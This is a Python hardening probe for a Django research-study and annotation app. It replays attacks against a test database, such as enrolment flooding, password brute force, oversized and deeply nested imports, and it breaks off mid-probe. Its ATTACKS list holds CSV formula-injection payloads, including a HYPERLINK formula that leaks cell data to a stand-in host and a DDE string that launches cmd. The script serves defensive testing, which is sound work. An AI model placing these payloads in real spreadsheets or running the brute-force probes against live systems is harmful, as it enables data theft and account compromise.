"""Replay the attacks and bad inputs of the hardening issues (#10, #22) and count what fails.

Runs against whatever code is importable (this checkout, or an older one on PYTHONPATH), on
a fresh SQLite database in a temporary folder, through Django's test client (so a crash is
counted as the 500 a browser would get). Every case is a yes/no "did it fail?"; the result is
a table per category, written as JSON.

    python benchmarks/hardening_probe.py [--out benchmarks/results/hardening_probe.json]

Enrolment is measured in the documented setting: the study has its Prolific study ID set
where the code supports it, and the attacker knows it (the worst case).
"""

from __future__ import annotations

import argparse
import io
import json
import os
import subprocess
import sys
import tempfile
from collections import defaultdict
from datetime import timedelta
from functools import partial
from pathlib import Path

CODE = Path(os.environ.get("PROBE_CODE_DIR", Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(CODE))
from hardening_round3 import ROUND3  # noqa: E402 - the script's folder, beside this file

PROLIFIC_STUDY = "64f0c0ffee0000000000beef"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"a")', "+cmd|' /C calc'!A0", "-2+3", "=cmd"]

results: dict[str, list[tuple[str, bool]]] = defaultdict(list)


def case(category: str, name: str, failed: bool) -> None:
    results[category].append((name, bool(failed)))


def setup_django(var: str) -> None:
    os.environ.update(
        INTRUDER_VAR_DIR=var, DJANGO_SETTINGS_MODULE="intruder.settings", DJANGO_DEBUG="0"
    )
    os.environ.pop("DATABASE_URL", None)
    import warnings

    import django

    warnings.filterwarnings("ignore")
    django.setup()
    from django.core.management import call_command

    call_command("migrate", verbosity=0)


def client(addr: str = "127.0.0.1"):
    from django.test import Client

    return Client(REMOTE_ADDR=addr, raise_request_exception=False)


def walk(c, slug: str, pid: str, study_id: str = PROLIFIC_STUDY):
    from django.urls import reverse

    r = c.get(f"/s/{slug}/?PROLIFIC_PID={pid}&STUDY_ID={study_id}&SESSION_ID=s")
    if r.status_code != 302:
        return r
    token = r.url.rstrip("/").rsplit("/", 1)[-1]
    c.post(reverse("participant-consent", kwargs={"token": token}), {"decision": "agree"})
    c.post(reverse("participant-instructions", kwargs={"token": token}))
    return c.get(reverse("participant-home", kwargs={"token": token}))


def has_field(model, name: str) -> bool:
    return any(f.name == name for f in model._meta.get_fields())


def probe_enrolment() -> None:
    from django.utils import timezone

    from intruder.models import Assignment, Study
    from tests.intruder.factories import make_study, make_texts

    def small(**extra):
        if has_field(Study, "prolific_study_id"):
            extra["prolific_study_id"] = PROLIFIC_STUDY
        s = make_study(kind="intruder", items_per_participant=1, judgments_per_text=1, **extra)
        make_texts(study=s, count=3, group="famous")
        return s

    def real_gets_text(s) -> bool:
        r = walk(client("198.51.100.7"), s.slug, f"REAL{s.pk}")
        return r.status_code == 200 and "judge-form" in r.content.decode()

    s = small()
    for i in range(8):
        walk(client("203.0.113.66"), s.slug, f"FAKE{s.pk}X{i}")
    case(
        "1 open enrolment",
        "8 made-up PIDs (one address, right STUDY_ID): real participant kept out at once",
        not real_gets_text(s),
    )
    Assignment.objects.filter(participant__study=s).update(
        assigned_at=timezone.now() - timedelta(minutes=11)
    )
    case(
        "1 open enrolment",
        "... still kept out 11 minutes later (time limit 60)",
        not real_gets_text(s),
    )
    s = small()
    for i in range(8):
        walk(client(f"10.1.0.{i + 1}"), s.slug, f"FK{s.pk}X{i}", study_id="madeup")
    case(
        "1 open enrolment",
        "8 made-up PIDs with a made-up STUDY_ID: real participant kept out",
        not real_gets_text(s),
    )
    s = make_study(kind="intruder", items_per_participant=1, judgments_per_text=3)
    make_texts(study=s, count=14, group="famous")  # 42 slots: room for every made-up PID
    for i in range(30):
        walk(client("203.0.113.67"), s.slug, f"F{s.pk}X{i}", study_id="x")
    case(
        "1 open enrolment",
        "one address enrols 30 made-up PIDs (nothing limits it)",
        Study.objects.get(pk=s.pk).participants.count() >= 30,
    )


def probe_linked() -> None:
    from intruder.models import Study
    from tests.intruder.factories import make_study, make_target, make_texts

    writers = make_study(kind="collection")
    target = make_target(study=writers, name="Ottilie Brandvold", group="fictitious")
    intruders = make_study(kind="intruder", is_open=False)
    texts = make_texts(study=intruders, count=2)
    texts[0].description.target.name = target.name
    texts[0].description.target.save()
    Study.objects.filter(pk=intruders.pk).update(is_open=True)  # both open, as reported
    walk(client(), writers.slug, "WRITER01", study_id="x")  # sees a target's name and profile
    r = walk(client(), intruders.slug, "WRITER01", study_id="x")
    case(
        "2 writer study leaks targets",
        "the writer's PID is admitted to the intruder study",
        r.status_code == 200,
    )
    r = walk(client(), intruders.slug, "NEWPID01", study_id="x")
    case(
        "2 writer study leaks targets",
        "new intruders admitted while the linked writer study is open",
        r.status_code == 200,
    )
    Study.objects.filter(pk=writers.pk).update(is_open=False)
    c = client()
    c.force_login(intruders.owner)
    form = {
        "title": writers.title, "kind": "collection", "items_per_participant": 10,
        "judgments_per_text": 3, "min_description_chars": 500, "completion_code": "C",
        "time_limit_minutes": 60, "identification_threshold": 0.75, "is_open": "on",
    }  # fmt: skip
    Study.objects.filter(pk=writers.pk).update(owner=intruders.owner)
    c.post(f"/r/{writers.slug}/edit/", form)
    case(
        "2 writer study leaks targets",
        "researcher can open the writer study while the linked intruder study is open",
        Study.objects.get(pk=writers.pk).is_open,
    )


def probe_withdrawal() -> None:
    from django.urls import reverse
    from django.utils import timezone

    from intruder.models import AnonymizedText, Judgment
    from tests.intruder.factories import make_participant, make_study, make_texts

    study = make_study(kind="intruder", items_per_participant=2)
    make_texts(study=study, count=2)
    p = make_participant(
        study=study,
        group="fictitious",
        consented_at=timezone.now(),
        instructions_seen_at=timezone.now(),
    )
    c = client()
    home = reverse("participant-home", kwargs={"token": p.token})
    c.get(home)
    held = p.assignments.get(status="active")
    researcher = client()
    researcher.force_login(study.owner)
    researcher.post(
        reverse("researcher-review-text", kwargs={"slug": study.slug, "pk": held.text_id}),
        {"action": "withdraw", "revision": held.text.revision},
    )
    withdrawn = AnonymizedText.objects.get(pk=held.text_id)
    assert withdrawn.status == "withdrawn"
    c.get(home)
    case(
        "3 withdrawal",
        "holder still shown the withdrawn text",
        p.assignments.filter(status="active", text=withdrawn).exists(),
    )
    c.post(
        reverse("participant-judge", kwargs={"token": p.token}),
        {"assignment_id": held.pk, "self_identified": "no", "other_knowledge": "x"},
    )
    case(
        "3 withdrawal",
        "judgment of the withdrawn text stored",
        Judgment.objects.filter(text=withdrawn).exists(),
    )


def probe_exports() -> None:
    from intruder.exchange.exports import render_table
    from tests.intruder.factories import (
        make_description,
        make_judgment,
        make_participant,
        make_study,
        make_target,
        make_text,
    )  # fmt: skip

    study = make_study()
    target = make_target(study=study, group="famous")
    for i, attack in enumerate(ATTACKS):
        text = make_text(
            study=study,
            description=make_description(
                study=study, target=target, text=attack, external_id=f"e{i}"
            ),
        )
        p = make_participant(study=study, group="famous")
        make_judgment(
            participant=p,
            text=text,
            self_identified=True,
            guessed_name=attack,
            revealing_text=attack,
        )
    import csv

    for table in ("judgments", "descriptions"):
        rows = list(csv.DictReader(io.StringIO(render_table(study, table, "csv"), newline="")))
        cells = [v for row in rows for v in row.values() if v]
        for attack in ATTACKS:
            case(
                "4 CSV formula injection",
                f"{table}: {attack[:12]}... reaches a cell as a formula",
                attack in cells,
            )
        jsonl = render_table(study, table, "jsonl")
        case(
            "4 CSV formula injection",
            f"{table} JSONL not byte-exact",
            any(json.dumps(a, ensure_ascii=False) not in jsonl for a in ATTACKS),
        )


def probe_bounds() -> None:
    from django.db import IntegrityError, transaction
    from rest_framework.authtoken.models import Token
    from rest_framework.test import APIClient

    from intruder.models import Study
    from tests.intruder.factories import make_study, make_user

    bad = [("judgments_per_text", 99999999999), ("time_limit_minutes", 99999999999999),
           ("time_limit_minutes", 0), ("items_per_participant", 100000)]  # fmt: skip
    user = make_user()
    c = client()
    c.force_login(user)
    api = APIClient(raise_request_exception=False)
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    base = {
        "title": "B", "kind": "intruder", "items_per_participant": 10, "judgments_per_text": 3,
        "min_description_chars": 500, "completion_code": "C", "time_limit_minutes": 60,
        "identification_threshold": 0.75,
    }  # fmt: skip
    for i, (field, value) in enumerate(bad):
        c.post("/r/new/", {**base, "slug": f"form-{i}", field: value})
        case(
            "6 study settings without bounds",
            f"form accepts {field}={value}",
            Study.objects.filter(slug=f"form-{i}").exists(),
        )
        r = api.post(
            "/api/studies/create/", {**base, "slug": f"api-{i}", field: value}, format="json"
        )
        case(
            "6 study settings without bounds",
            f"API accepts {field}={value}",
            r.status_code == 201 or r.status_code >= 500,
        )
        study = make_study()
        try:
            with transaction.atomic():
                Study.objects.filter(pk=study.pk).update(**{field: value})
            stored = True
        except (IntegrityError, OverflowError, Exception):
            stored = False
        case("6 study settings without bounds", f"database stores {field}={value}", stored)


def probe_deploy() -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "INTRUDER_"))}
    env |= {
        "PYTHONPATH": str(CODE), "INTRUDER_VAR_DIR": tempfile.mkdtemp(),
        "DJANGO_SECRET_KEY": "p" + os.urandom(24).hex(), "DJANGO_ALLOWED_HOSTS": "s.example.org",
        "DJANGO_SECURE_SSL_REDIRECT": "1", "DJANGO_SECURE_HSTS_SECONDS": "31536000",
        "DJANGO_SECURE_HSTS_INCLUDE_SUBDOMAINS": "1", "DJANGO_SECURE_HSTS_PRELOAD": "1",
        "DJANGO_SECURE_COOKIES": "1", "DJANGO_SECURE_PROXY_SSL_HEADER": "HTTP_X_FORWARDED_PROTO",
        "DJANGO_CSRF_TRUSTED_ORIGINS": "https://s.example.org",
    }  # fmt: skip
    checked = subprocess.run([sys.executable, "manage.py", "check", "--deploy"], cwd=CODE,
                             env=env, capture_output=True, text=True)  # fmt: skip
    out = checked.stdout + checked.stderr
    for check in ("W004", "W008", "W012", "W016"):
        case(
            "7 production settings",
            f"check --deploy still warns security.{check}",
            f"security.{check}" in out,
        )
    pub = {k: v for k, v in env.items() if k != "DJANGO_SECRET_KEY"}
    started = subprocess.run([sys.executable, "-c", "import intruder.wsgi"], cwd=CODE, env=pub,
                             capture_output=True, text=True)  # fmt: skip
    case(
        "7 production settings",
        "server starts on the public SECRET_KEY with DEBUG off",
        started.returncode == 0,
    )
    from django.test import Client

    from tests.intruder.factories import make_user

    c = Client()
    c.force_login(make_user())
    case(
        "7 production settings",
        "no Content-Security-Policy header",
        "Content-Security-Policy" not in c.get("/r/"),
    )


def probe_bruteforce() -> None:
    from rest_framework.test import APIClient

    from tests.intruder.factories import make_user

    make_user(username="victim", password="right-password-9")
    c = client("203.0.113.5")
    for i in range(30):
        c.post("/accounts/login/", {"username": "victim", "password": f"guess{i}"})
    ok = c.post("/accounts/login/", {"username": "victim", "password": "right-password-9"})
    case("8 brute force", "30 wrong passwords, then the right one logs in", ok.status_code == 302)
    api = APIClient(REMOTE_ADDR="203.0.113.6", raise_request_exception=False)
    codes = [api.post("/api/auth/token/", {"username": "victim", "password": f"g{i}"})
             .status_code for i in range(30)]  # fmt: skip
    case("8 brute force", "30 token guesses, none throttled", 429 not in codes)
    make_user(username="researcher", password="intruder-demo")
    demo = client().post("/accounts/login/", {"username": "researcher",
                                              "password": "intruder-demo"})  # fmt: skip
    case("8 brute force", "demo password logs in outside the demo", demo.status_code == 302)


def probe_imports() -> None:
    from tests.intruder.factories import make_study

    study = make_study()
    c = client()
    c.force_login(study.owner)
    upload = io.BytesIO('{"name": "李白", "group": "famous"}'.encode())
    upload.name = "f.jsonl"
    r = c.post(f"/r/{study.slug}/import/", {"file": upload})
    case("9 import files", "non-Latin name, no key: 500", r.status_code >= 500)
    files = {
        "a name with no letters, no key": '{"name": "😀", "group": "famous"}',
        "name over 200 characters": json.dumps({"name": "N" * 300, "group": "famous"}),
        "URL over 200 characters": json.dumps(
            {"name": "A", "group": "semifamous", "wikipedia_url": "https://x.org/" + "a" * 300}
        ),
        "CSV field over 131,072 characters": None,
        "5000-digit number": '{"name": "A", "group": "famous", "profile": {"a": '
        + "9" * 5000
        + "}}",
        "100,000-deep nesting": '{"name": "A", "x": ' + "[" * 100000 + "]" * 100000 + "}",
        "NaN": '{"name": "A", "group": "famous", "profile": {"a": NaN}}',
        "NUL character": json.dumps({"name": "A\u0000B", "group": "famous"}),
    }
    for name, content in files.items():
        if content is None:
            upload = io.BytesIO(('name,group\n"' + "x" * 140000 + '",famous\n').encode())
            upload.name = "big.csv"
        else:
            upload = io.BytesIO(content.encode())
            upload.name = "f.jsonl"
        r = c.post(f"/r/{study.slug}/import/", {"file": upload})
        body = r.content.decode(errors="replace")
        case(
            "9 import files",
            f"{name}: 500 or no line/field error",
            r.status_code >= 500 or (r.status_code != 400 and "line" not in body),
        )


def probe_api_overflow() -> None:
    from rest_framework.authtoken.models import Token
    from rest_framework.test import APIClient

    from tests.intruder.factories import make_user

    api = APIClient(raise_request_exception=False)
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=make_user()).key}")
    for endpoint in ("targets", "descriptions", "anonymized-texts", "participants",
                     "judgments", "jobs"):  # fmt: skip
        r = api.get(f"/api/{endpoint}/?study=9223372036854775808")
        case(
            "10 API integer filters",
            f"/api/{endpoint}/?study=2**63 answers 500",
            r.status_code >= 500,
        )
    r = api.get("/api/studies/9223372036854775808/")
    case("10 API integer filters", "/api/studies/2**63/ answers 500", r.status_code >= 500)


def probe_review_page() -> None:
    from tests.intruder.factories import make_study, make_text

    study = make_study()
    make_text(study=study)
    c = client()
    c.force_login(study.owner)
    for page in ("²", "9" * 5000, "9" * 30):
        r = c.get(f"/r/{study.slug}/review/", {"page": page})
        case(
            "11 review page",
            f"?page={page[:6]}{'...' if len(page) > 6 else ''} answers 500",
            r.status_code >= 500,
        )


def probe_nul_writer() -> None:
    from django.urls import reverse

    from intruder.models import Description
    from intruder.services.participants import participant_consent_give
    from tests.intruder.factories import make_participant, make_study, make_target

    study = make_study(kind="collection", min_description_chars=10)
    make_target(study=study, group="famous")
    writer = make_participant(study=study)
    participant_consent_give(participant=writer)
    c = client()
    r = c.post(reverse("participant-write", kwargs={"token": writer.token}),
               {"position": 1, "text": "Long enough text\x00 here."})  # fmt: skip
    page = (c.get(r.url) if r.status_code == 302 else r).content.decode(errors="ignore")
    stored = Description.objects.filter(writer=writer).exists()
    said = "NUL" in page or "Null characters" in page
    silent = not stored and not (said and "Long enough text here." in page)
    case("12 NUL in a writer's text", "text lost without a word", silent)


# Round 2 (issue 22): the annotation app and the newer surfaces --------------------------------


def _crowd_setup(*, open_project: bool = True):
    """A writer study's originals in a crowd project and an open intruder study on its targets."""
    from anonymize.annotations.schema import AnnotatedDocument
    from intruder.annotation import services as annotation
    from intruder.annotation.models import Project
    from intruder.models import Study
    from tests.intruder.factories import make_description, make_study, make_target, make_texts

    writers = make_study(kind="collection", is_open=False)
    intruders = make_study(owner=writers.owner, is_open=False)
    names = []
    for n in range(4):
        target = make_target(study=writers, name=f"Probe Targetname{n}", group="fictitious")
        make_description(study=writers, target=target, text=f"{target.name} keeps bees.")
        make_target(study=intruders, name=target.name, key=f"k{n}-{target.pk}")
        names.append(target.name)
    make_texts(study=intruders, count=2)
    project = annotation.project_create(
        owner=writers.owner,
        slug=f"probe-{writers.pk}",
        title="Probe",
        scheme="textwash",
        texts_per_annotator=4,
        annotators_per_text=8,
        pre_annotate=False,
    )
    annotation.documents_add_from_study(project=project, study=writers, what="descriptions")
    del AnnotatedDocument
    if open_project:
        Project.objects.filter(pk=project.pk).update(is_open=True)
    Study.objects.filter(pk=intruders.pk).update(is_open=True)
    return project, writers, intruders, names


def _crowd_walk(c, slug: str, pid: str, study_id: str = "") -> str:
    """Enter a crowd project, confirm the guidelines, read the task page and API; return all."""
    from django.urls import reverse

    seen = []
    r = c.get(f"/a/{slug}/?PROLIFIC_PID={pid}&STUDY_ID={study_id}")
    seen.append(r.content.decode(errors="ignore"))
    if r.status_code != 302:
        return "\n".join(seen)
    token = r.url.rstrip("/").rsplit("/", 1)[-1]
    c.post(reverse("annotation-crowd-start", kwargs={"token": token}))
    page = c.get(reverse("annotation-crowd-home", kwargs={"token": token}))
    seen.append(page.content.decode(errors="ignore"))
    from intruder.annotation.models import Annotator

    annotator = Annotator.objects.filter(token=token).first()
    for task in annotator.tasks.all() if annotator else []:
        api = c.get(reverse("annotation-crowd-api", kwargs={"token": token, "pk": task.pk}))
        seen.append(api.content.decode(errors="ignore"))
    return "\n".join(seen)


def probe_crowd_originals() -> None:
    from intruder.annotation.models import Project
    from tests.intruder.factories import make_participant

    category = "13 crowd annotation hands out originals"
    case(category, "projects are open by default", Project._meta.get_field("is_open").default)
    project, _, _intruders, names = _crowd_setup()
    c = client("198.51.100.77")
    leaked = set()
    for n in range(8):
        text = _crowd_walk(c, project.slug, f"MADEUPPID{n:03d}", study_id=PROLIFIC_STUDY)
        leaked |= {name for name in names if name in text}
    case(category, "8 made-up PIDs from one address read target names", bool(leaked))
    project2, _, intruders2, names2 = _crowd_setup()
    make_participant(study=intruders2, prolific_pid="JUDGEPID01")
    text = _crowd_walk(client("198.51.100.78"), project2.slug, "JUDGEPID01")
    case(
        category,
        "an intruder's PID annotates the originals of its own study",
        any(name in text for name in names2),
    )
    project3, _, intruders3, _ = _crowd_setup(open_project=True)
    Project.objects.filter(pk=project3.pk).update(prolific_study_id="64f0c0ffee0000000000aaaa") if (
        has_field(Project, "prolific_study_id")
    ) else None
    r = client("198.51.100.79").get(f"/a/{project3.slug}/?PROLIFIC_PID=WRONGSTUDY1&STUDY_ID=x")
    case(category, "a link with another Prolific STUDY_ID is admitted", r.status_code == 302)
    c = client("198.51.100.80")
    c.force_login(intruders3.owner)
    from intruder.models import Study

    Study.objects.filter(pk=intruders3.pk).update(is_open=False)
    from intruder.services.studies import study_update

    try:
        study_update(study=Study.objects.get(pk=intruders3.pk), is_open=True)
        opened = True
    except Exception:
        opened = False
    case(category, "the intruder study opens beside an open project of its originals", opened)


def probe_psi_annotator_pull() -> None:
    from django.urls import reverse

    from intruder.annotation import services as annotation
    from intruder.models import StudyMember
    from tests.intruder.factories import make_member, make_study, make_texts

    category = "14 PSI annotator pulls a study's texts"
    study = make_study()
    make_texts(study=study, count=3)
    annotator = make_member(study=study, role=StudyMember.Role.ANNOTATOR)
    project = annotation.project_create(
        owner=annotator, slug=f"own-{annotator.pk}", title="Own", scheme="textwash"
    )
    c = client()
    c.force_login(annotator)
    for what in ("descriptions", "anonymized"):
        c.post(
            reverse("annotation-add-texts", kwargs={"slug": project.slug}),
            {"study": study.pk, "what": what},
        )
        case(category, f"study annotator copies the {what}", project.documents.exists())


def probe_removed_member_api() -> None:
    import json as _json

    from django.urls import reverse

    from anonymize.annotations.schema import AnnotatedDocument
    from intruder.annotation import services as annotation
    from intruder.annotation.models import ProjectMember
    from tests.intruder.factories import make_user

    category = "15 removed member keeps her task"
    owner, member = make_user(), make_user()
    project = annotation.project_create(
        owner=owner, slug=f"rm-{owner.pk}", title="R", scheme="textwash", pre_annotate=False
    )
    annotation.documents_add(project=project, documents=[AnnotatedDocument("d", "Ann met Bo.")])
    annotation.project_member_set(project=project, user=member, role="annotator")
    task = annotation.task_next(
        annotator=annotation.annotator_for_user(project=project, user=member)
    )
    ProjectMember.objects.filter(project=project, user=member).delete()
    c = client()
    c.force_login(member)
    url = reverse("annotation-api", kwargs={"pk": task.pk})
    case(category, "GET after removal answers 200", c.get(url).status_code == 200)
    put = c.put(url, _json.dumps({"revision": 0, "mentions": []}), content_type="application/json")
    case(category, "PUT after removal answers 200", put.status_code == 200)


def probe_interrupted_import() -> None:
    from intruder.exchange import imports
    from intruder.models import Description
    from tests.intruder.factories import make_study

    category = "16 interrupted import"
    study = make_study()
    rows = "".join(
        json.dumps({"id": f"d{n}", "person": f"P {n % 7}", "type": "fictitious",
                    "text": f"Description {n} keeps bees. " * 4}) + "\n"
        for n in range(1500)
    )  # fmt: skip
    original = Description.objects.bulk_create
    calls = {"n": 0}

    def dying_bulk_create(objs, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] > 1:
            raise KeyboardInterrupt("process killed")  # no `except Exception` catches this
        return original(objs, *args, **kwargs)

    Description.objects.bulk_create = dying_bulk_create
    try:
        imports.import_study_data(study=study, content=rows, fmt="jsonl")
    except KeyboardInterrupt:
        pass
    finally:
        Description.objects.bulk_create = original
    case(category, "rows of the interrupted import stay", study.descriptions.exists())
    try:
        imports.import_study_data(study=study, content=rows, fmt="jsonl")
        refused = False
    except Exception:
        refused = True
    case(category, "the same file cannot be imported again", refused)


def probe_annotation_csv() -> None:
    from anonymize.annotations.schema import AnnotatedDocument
    from intruder.annotation import services as annotation
    from intruder.annotation.exports import agreement_export, export_bytes
    from intruder.annotation.models import Task
    from tests.intruder.factories import make_user

    category = "17 formulas in annotation CSVs"
    owner = make_user()
    project = annotation.project_create(
        owner=owner, slug=f"csv-{owner.pk}", title="C", scheme="textwash", pre_annotate=False
    )
    texts = {f"t{i}": f"{a} wrote Ann here." for i, a in enumerate(ATTACKS)}
    annotation.documents_add(
        project=project, documents=[AnnotatedDocument(k, v) for k, v in texts.items()]
    )
    for slot, user in ((1, owner), (2, make_user())):
        seat = annotation.annotator_for_user(project=project, user=user)
        for document in project.documents.all():
            task = Task.objects.create(document=document, annotator=seat, slot=slot)
            head = document.text.split(" wrote")[0]
            annotation.task_save(
                task=task,
                revision=0,
                mentions=[{"start": 0, "end": len(head), "identifier_type": "QUASI",
                           "entity_type": "OTHER_IDENTIFYING_ATTRIBUTE", "entity": "x"}],
            )  # fmt: skip
            annotation.task_submit(task=task)
    import csv as _csv

    for name, content in (
        ("annotation CSV export", export_bytes(project=project, fmt="csv").decode()),
        ("agreement CSV", agreement_export(project=project, fmt="csv").decode()),
    ):
        cells = [cell for row in _csv.reader(io.StringIO(content)) for cell in row]
        case(category, f"{name} holds a formula cell", any(c[:1] in "=+-@" and c for c in cells))


def probe_crowd_work() -> None:
    from django.urls import reverse
    from django.utils import timezone

    from anonymize.annotations.schema import AnnotatedDocument
    from intruder.annotation import services as annotation
    from intruder.annotation.models import Project, Task
    from tests.intruder.factories import make_user

    category = "18 crowd code and slots"
    owner = make_user()
    project = annotation.project_create(
        owner=owner, slug=f"cw-{owner.pk}", title="W", scheme="textwash", pre_annotate=False,
        annotators_per_text=1, texts_per_annotator=1,
    )  # fmt: skip
    Project.objects.filter(pk=project.pk).update(is_open=True)
    annotation.documents_add(project=project, documents=[AnnotatedDocument("a", "Ann met Bo.")])
    c = client("198.51.100.90")
    r = c.get(f"/a/{project.slug}/?PROLIFIC_PID=IDLEPID01")
    token = r.url.rstrip("/").rsplit("/", 1)[-1]
    c.post(reverse("annotation-crowd-start", kwargs={"token": token}))
    c.get(reverse("annotation-crowd-home", kwargs={"token": token}))  # holds the only slot
    Task.objects.filter(document__project=project).update(
        updated_at=timezone.now() - timedelta(days=2)
    )
    other = client("198.51.100.91")
    r = other.get(f"/a/{project.slug}/?PROLIFIC_PID=LATEPID01")
    token2 = r.url.rstrip("/").rsplit("/", 1)[-1]
    other.post(reverse("annotation-crowd-start", kwargs={"token": token2}))
    page = other.get(reverse("annotation-crowd-home", kwargs={"token": token2}))
    body = page.content.decode(errors="ignore")
    case(
        category,
        "completion code shown without any submitted text",
        project.completion_code in body,
    )
    case(
        category,
        "a slot abandoned for two days is never given to anyone else",
        not Task.objects.filter(
            document__project=project, annotator__prolific_pid="LATEPID01"
        ).exists(),
    )


def probe_model_in_request() -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from intruder.annotation import services as annotation
    from intruder.services import anonymization
    from tests.intruder.factories import make_user
    from tests.intruder.fake_anonymizer import FakeAnonymizer

    category = "19 model work in the request"
    calls = {"n": 0}

    class CountingAnonymizer(FakeAnonymizer):
        def anonymize_many(self, *args, **kwargs):
            calls["n"] += 1
            return super().anonymize_many(*args, **kwargs)

    previous = anonymization.set_anonymizer(CountingAnonymizer())
    try:
        owner = make_user()
        project = annotation.project_create(
            owner=owner, slug=f"mr-{owner.pk}", title="M", scheme="textwash"
        )
        c = client()
        c.force_login(owner)
        c.post(
            reverse("annotation-add-texts", kwargs={"slug": project.slug}),
            {"file": SimpleUploadedFile("t.csv", b"id,text\na,Orla met Bo in Oslo.\n")},
        )
        case(category, "adding texts runs the anonymizer inside the request", calls["n"] > 0)
    finally:
        anonymization.set_anonymizer(previous)


def probe_newer_importers() -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from intruder.annotation import services as annotation
    from intruder.annotation.models import Document
    from tests.intruder.factories import make_user

    category = "20 newer importers"
    owner = make_user()
    project = annotation.project_create(
        owner=owner, slug=f"ni-{owner.pk}", title="N", scheme="textwash", pre_annotate=False
    )
    c = client()
    c.force_login(owner)
    deep = "[" * 100000 + "]" * 100000
    record = {"id": "x", "text": "Ann met Bo.", "entities": []}
    bad = {
        "CSV field over 131,072 characters": ("big.csv", "id,text\nb," + "w " * 70000 + "\n"),
        "100,000-deep nesting": ("deep.jsonl", '{"id": "x", "entities": ' + deep + "}\n"),
        "5000-digit integer": ("int.jsonl", '{"id": ' + "9" * 5000 + ', "text": "t"}\n'),
        "doccano id of the wrong type": ("id.jsonl", json.dumps(record | {"id": ["a"]}) + "\n"),
        "doccano relations of the wrong type":
            ("rel.jsonl", json.dumps(record | {"relations": "x"}) + "\n"),
        "document id over 200 characters":
            ("long.jsonl", json.dumps(record | {"id": "x" * 250}) + "\n"),
        "NUL character": ("nul.jsonl", json.dumps(record | {"text": "A\u0000B"}) + "\n"),
    }  # fmt: skip
    for name, (filename, content) in bad.items():
        before = Document.objects.count()
        for view in ("annotation-add-texts", "annotation-import"):
            r = c.post(
                reverse(view, kwargs={"slug": project.slug}),
                {"file": SimpleUploadedFile(filename, content.encode())},
            )
            wrote = (
                Document.objects.count() != before and name != "CSV field over 131,072 characters"
            )
            case(category, f"{view} {name}: 500 or written", r.status_code >= 500 or wrote)
    sep = json.dumps({"id": "sep", "text": "one\u2028two", "entities": []}, ensure_ascii=False)
    c.post(
        reverse("annotation-add-texts", kwargs={"slug": project.slug}),
        {"file": SimpleUploadedFile("sep.jsonl", (sep + "\n").encode())},
    )
    case(
        category,
        "valid JSONL with U+2028 refused",
        not project.documents.filter(doc_id="sep").exists(),
    )
    entity = {"id": 1, "start_offset": 0, "end_offset": 3, "label": "PERSON_FIRSTNAME"}
    spans = json.dumps(
        {"id": "sp", "text": "Ann met Bo.", "annotator": "layer", "entities": [entity]}
    )
    c.post(
        reverse("annotation-add-texts", kwargs={"slug": project.slug}),
        {"file": SimpleUploadedFile("sp.jsonl", (spans + "\n").encode())},
    )
    from intruder.annotation.models import Mention

    case(
        category,
        "doccano spans dropped when adding texts",
        not Mention.objects.filter(task__document__doc_id="sp").exists(),
    )
    from intruder.risk.background_uploads import parse_background_upload

    for name, content in {
        "background: 100,000-deep nesting": '{"target": "a", "text": ' + deep + "}\n",
        "background: 5000-digit integer": '{"target": "a", "text": ' + "9" * 5000 + "}\n",
    }.items():
        try:
            parse_background_upload(content.encode(), "bg.jsonl")
            crashed = False
        except ValueError as error:
            crashed = "line" not in str(error)
        except Exception:
            crashed = True
        case(category, f"{name}: crash or no line", crashed)
    for content in (deep, '{"d": [[0, ' + "9" * 5000 + "]]}"):
        r = c.post(
            reverse("annotation-evaluate", kwargs={"slug": project.slug}),
            {"system": "file", "file": SimpleUploadedFile("s.json", content.encode())},
        )
        case(category, f"evaluation file {content[:12]}...: 500", r.status_code >= 500)


def probe_attack_run_api() -> None:
    from rest_framework.test import APIClient

    from tests.intruder.factories import make_study, make_texts

    category = "21 attack-run API"
    study = make_study()
    make_texts(study=study, count=4)
    api = APIClient(raise_request_exception=False)
    api.force_authenticate(study.owner)
    for name, extra in {
        'config top_k="abc"': {"config": {"top_k": "abc"}},
        "config top_k=2**70": {"config": {"top_k": 2**70}},
        "seed 2**70": {"seed": 2**70},
        "seed 2**31": {"seed": 2**31},
    }.items():
        payload = {"study": study.pk, "attacks": ["tfidf"], "methods": ["clear"], "folds": 2}
        r = api.post("/api/attack-runs/create/", payload | extra, format="json")
        from intruder.models import Job
        from intruder.risk.models import AttackRun

        stored = AttackRun.objects.exists()
        case(category, f"{name}: 500 or stored", r.status_code >= 500 or stored)
        AttackRun.objects.all().delete()
        Job.objects.all().delete()


def probe_writer_close() -> None:
    from django.urls import reverse

    from intruder.models import Study
    from tests.intruder.factories import make_study, make_target, make_texts

    category = "22 writer enrolment outlives the close"
    writers = make_study(kind="collection")
    intruders = make_study(is_open=False)
    names = []
    for group in ("famous", "semifamous", "fictitious"):
        target = make_target(study=writers, group=group, name=f"Closing Writername {group}")
        make_target(study=intruders, group=group, name=target.name, key=f"w-{target.pk}")
        names.append(target.name)
    make_texts(study=intruders, count=2)
    c = client("198.51.100.95")
    r = c.get(f"/s/{writers.slug}/?PROLIFIC_PID=EARLYWRITER9&STUDY_ID=x")
    token = r.url.rstrip("/").rsplit("/", 1)[-1]
    Study.objects.filter(pk=writers.pk).update(is_open=False)
    Study.objects.filter(pk=intruders.pk).update(is_open=True)
    c.post(reverse("participant-consent", kwargs={"token": token}), {"decision": "agree"})
    page = c.get(reverse("participant-home", kwargs={"token": token})).content.decode()
    case(category, "consent after the close shows target names", any(n in page for n in names))


def probe_uploads_and_jobs() -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from intruder.models import Job
    from intruder.risk.models import AttackRun
    from tests.intruder.factories import make_description, make_study, make_target

    category = "23 uploads and jobs"
    study = make_study()
    keys = []
    for _n in range(3):
        target = make_target(study=study)
        keys.append(target.key)
        make_description(study=study, target=target)
    c = client()
    c.force_login(study.owner)
    big = ("target,text\n" + f"{keys[0]}," + "word " * 6_000_000 + "\n").encode()  # 30 MB
    c.post(
        f"/r/{study.slug}/risk/runs/",
